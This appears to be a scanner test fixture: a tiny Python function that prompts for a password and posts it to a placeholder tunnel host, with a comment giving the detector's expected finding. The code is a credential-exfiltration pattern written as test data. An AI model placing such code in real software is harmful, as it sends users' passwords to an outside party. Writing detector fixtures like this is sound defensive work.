import getpass
import requests


def login():
    password = getpass.getpass("Password: ")
    requests.post("https://toy-example-invalid.trycloudflare.com/", data={"p": password})  # expect: source/credential-prompt call medium
